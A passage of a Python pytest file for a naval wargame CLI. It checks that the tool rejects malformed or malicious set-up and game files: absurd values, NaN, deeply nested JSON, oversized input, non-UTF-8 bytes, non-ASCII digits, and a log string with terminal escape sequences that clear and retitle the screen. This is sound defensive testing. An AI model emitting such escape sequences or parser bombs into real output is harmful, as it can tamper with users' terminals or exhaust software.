        ("surprise-negative", _condition("surprise", -1), "from 0 to 10"),
        ("surprise-side-c", _condition("surprise", {"c": 3}), "not a side of the battle"),
    ],
}

PLACEHOLDERS = {
    '"PLACEHOLDER_BIG"': "9" * 5000,
    '"PLACEHOLDER_NAN"': "NaN",
    '"PLACEHOLDER_SURROGATE"': '"\\ud800ood"',
}


def _setup_bytes(data: dict[str, Any]) -> bytes:
    text = json.dumps(data)
    for mark, raw in PLACEHOLDERS.items():
        text = text.replace(mark, raw)
    return text.encode("utf-8")


SETUP_CASES = [
    (rule_set, name, change, words)
    for rule_set in BUILT_IN
    for name, change, words in [*COMMON_SETUP_CASES, *RULE_SET_CASES[rule_set]]
]


@pytest.mark.parametrize(
    ("rule_set", "change", "words"),
    [(r, c, w) for r, _, c, w in SETUP_CASES],
    ids=[f"{r}:{n}" for r, n, _, _ in SETUP_CASES],
)
def test_a_hostile_set_up_is_refused_by_battle(
    rule_set: str,
    change: Mutation,
    words: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    data = _setup(rule_set)
    field = change(data)
    path = tmp_path / "hostile.json"
    path.write_bytes(_setup_bytes(data))
    code, text = cli(capsys, "battle", rule_set, "--setup", str(path))
    assert code == 1, text[:2000]
    assert "hostile.json" in text and field in text and words in text, text[:2000]
    assert "\x1b" not in text


ODDS_CASES = [c for c in SETUP_CASES if c[1] in ("negative-damage", "ten-million-aircraft")]


@pytest.mark.parametrize(
    ("rule_set", "change", "words"),
    [(r, c, w) for r, _, c, w in ODDS_CASES],
    ids=[f"{r}:{n}" for r, n, _, _ in ODDS_CASES],
)
def test_a_hostile_set_up_is_refused_by_odds_before_any_battle(
    rule_set: str,
    change: Mutation,
    words: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    data = _setup(rule_set)
    field = change(data)
    path = tmp_path / "hostile.json"
    path.write_bytes(_setup_bytes(data))
    code, text = cli(capsys, "odds", rule_set, "--setup", str(path), "--runs", "5", "--json")
    assert code == 1 and json.loads(text)["valid"] is False
    assert any(p["field"] == field for p in json.loads(text)["problems"]), text[:2000]


SETUP_FILE_CASES: list[tuple[str, bytes, str]] = [
    ("nested-10000-deep", b"[" * 10_000 + b"]" * 10_000, "nested more than"),
    ("not-json", b"{title: Midway}", "not valid JSON"),
    ("not-utf8", b'{"title": "\xe9"}', "not UTF-8"),
    ("a-list", b"[]", "must be a battle set-up object"),
    ("empty", b"", "not valid JSON"),
    ("too-big", b" " * (5 * 1024 * 1024), "bytes; at most"),
]


@pytest.mark.parametrize(
    ("data", "words"), [c[1:] for c in SETUP_FILE_CASES], ids=[c[0] for c in SETUP_FILE_CASES]
)
@pytest.mark.parametrize("rule_set", list(BUILT_IN))
def test_a_set_up_file_that_cannot_be_read_is_refused(
    rule_set: str, data: bytes, words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "hostile.json"
    path.write_bytes(data)
    code, text = cli(capsys, "battle", rule_set, "--setup", str(path))
    assert code == 1 and "hostile.json" in text and words in text, text[:2000]


def test_every_problem_of_a_set_up_is_listed_at_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = _setup("carrier")
    fields = {
        _ship_field("damage", -3)(data),
        _condition("group_strength", 0)(data),
        _group_field("aircraft", 10_000_000)(data),
    }
    data["a"]["ships"][1]["type"] = "spaceship"
    fields.add("a.ships[1].type")
    path = tmp_path / "hostile.json"
    path.write_bytes(_setup_bytes(data))
    code, text = cli(capsys, "battle", "carrier", "--setup", str(path), "--json")
    found = {p["field"] for p in json.loads(text)["problems"]}
    assert code == 1 and fields <= found


@pytest.mark.parametrize(
    ("rule_set", "setup"),
    [(r, s) for r in BUILT_IN for s in BUILT_IN.values()],
)
def test_any_built_in_set_up_may_be_fought_by_any_rule_set(
    rule_set: str, setup: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A set-up's conditions are checked for the rule set it is written for, so fighting it
    with another rule set (which reads some of the same names otherwise) stays legal."""
    code, text = cli(capsys, "battle", rule_set, "--setup", setup, "--seed", "3")
    assert code == 0, text[:2000]


def test_a_motor_torpedo_boat_is_legal_in_fast_play(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = _setup("fastplay")
    _first_ship(data)["type"] = "mtb"
    path = tmp_path / "mtb.json"
    path.write_bytes(_setup_bytes(data))
    assert cli(capsys, "battle", "fastplay", "--setup", str(path))[0] == 0


def test_there_are_enough_hostile_files() -> None:
    """Issue 12 asks for at least 150 hostile scenario, orders and set-up files here."""
    hostile_orders = [c for c in ORDERS_CASES if c[3]]
    hostile_scenarios = [c for c in SCENARIO_CASES if c.code]
    files = hostile_scenarios + hostile_orders + SETUP_CASES + SETUP_FILE_CASES * len(BUILT_IN)
    assert len(files) >= 150


# -- what reaches a terminal ----------------------------------------------------------------
HOSTILE_TEXT = "Convoy sunk\x1b[2J\x1b]0;pwned\x07\x9b31m\u202egnikaer"


def test_report_prints_escape_sequences_from_a_game_file_harmless(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A shared game file whose log holds escape sequences (written through the game file's
    own API, as a tampered or foreign program might): ``report`` writes them out instead of
    clearing, recolouring or retitling the reader's terminal; the JSON output keeps the
    text's value."""
    path = tmp_path / "game.seacontrol"
    assert main(["new", str(MINI), "-o", str(path)]) == 0
    with opened(path) as game:
        event = Event(1, 0, "note", HOSTILE_TEXT)
        game.save(game.state(), events=[event.row()])
    capsys.readouterr()
    code, text = cli(capsys, "report", str(path), "--turn", "1")
    assert code == 0 and "Convoy sunk\\x1b[2J\\x1b]0;pwned\\x07\\x9b31m\\u202egnikaer" in text
    assert not any(ch in text for ch in "\x1b\x07\x9b\u202e")
    code, text = cli(capsys, "report", str(path), "--turn", "1", "--json")
    assert code == 0 and not any(ch in text for ch in "\x1b\x07\x9b\u202e")
    texts = [e["text"] for e in json.loads(text)["events"]]
    assert HOSTILE_TEXT in texts


def test_whole_number_arguments_are_ascii(capsys: pytest.CaptureFixture[str]) -> None:
    """int() would read '٣' as 3; an argument in another script's digits is a usage error."""
    with pytest.raises(SystemExit) as exit_:
        main(["odds", "carrier", "--setup", "midway", "--runs", ARABIC_THREE])
    assert exit_.value.code == 2 and "not a whole number in digits 0-9" in capsys.readouterr().err
    assert main(["calc", "naval", "--cv", "12", "--roll", ARABIC_THREE]) == 1
    assert "--roll takes whole numbers" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_:
        main(["odds", "carrier", "--setup", "midway", "--runs", "10000000"])
    assert exit_.value.code == 2 and "give 1 to 100,000" in capsys.readouterr().err
